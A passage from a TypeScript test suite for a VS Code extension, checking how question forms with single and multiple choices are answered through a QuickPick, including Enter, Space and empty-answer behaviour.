    drawn = new Promise((resolve) => {
      seen = resolve;
    });
    fakeHost.open(question('q', [{ id: 'f', label: 'Which?', choices, initial: ['two'] }]));
    await press('enter', 'enter');
    assert.deepEqual(fakeHost.answers, []);
    seen();
    await press('enter');
    assert.deepEqual(fakeHost.answers, [{ askId: 'q', answer: { kind: 'fields', values: { f: ['two'] } } }]);
  });

  it('choosing several: nothing chosen is no answer', async () => {
    fakeHost.open(question('q', [{ id: 'f', label: 'Many', many: true, choices: [{ label: 'one' }, { label: 'two' }] }]));
    await press('enter');
    assert.deepEqual(fakeHost.answers, []);
    assert.deepEqual(fakeHost.openAsks(), ['q']);
  });

  it('choosing several: the first row has the focus, Space checks it, and the input says so', async () => {
    const create = vscode.window.createQuickPick;
    let pick: vscode.QuickPick<vscode.QuickPickItem> | undefined;
    const creating = () => {
      pick = create();
      return pick;
    };
    Object.assign(vscode.window, { createQuickPick: creating });
    try {
      fakeHost.open(question('q', [{ id: 'f', label: 'Many', many: true, choices: [{ label: 'one' }, { label: 'two' }] }]));
      await settled(() => pick?.activeItems[0]?.label === 'one');
      await settled(() => pick?.placeholder === 'Space chooses, Enter decides. Esc decides nothing.');
      const space = async (...chosen: readonly string[]) => {
        let isEmpty = false;
        const heard = pick?.onDidChangeValue((value) => {
          isEmpty = value === '';
        });
        if (pick) pick.value = ' ';
        await settled(() => isEmpty && pick?.selectedItems.map(({ label }) => label).join() === chosen.join());
        heard?.dispose();
      };
      await space('one');
      await space();
      await space('one');
      assert.equal(pick?.activeItems[0]?.label, 'one');
      await press('enter');
    } finally {
      Object.assign(vscode.window, { createQuickPick: create });
    }
    assert.deepEqual(fakeHost.answers, [{ askId: 'q', answer: { kind: 'fields', values: { f: ['one'] } } }]);
  });

  it('choosing several: a form may leave out what it does not need', async () => {
    const field = { id: 'f', label: 'Many', many: true, choices: [{ label: 'one' }] } as const;
    fakeHost.open(question('q', [{ ...field, kind: 'text' }]));
    await press('enter');
    assert.deepEqual(fakeHost.answers, [{ askId: 'q', answer: { kind: 'fields', values: { f: [] } } }]);
  });

  it('a question without fields is not answered for the user', async () => {
    fakeHost.open(question('q', []));
    await new Promise(setImmediate);
    assert.deepEqual(fakeHost.answers, []);
    await press('enter');
    assert.deepEqual(fakeHost.answers, [{ askId: 'q', answer: { kind: 'fields', values: {} } }]);
  });
});
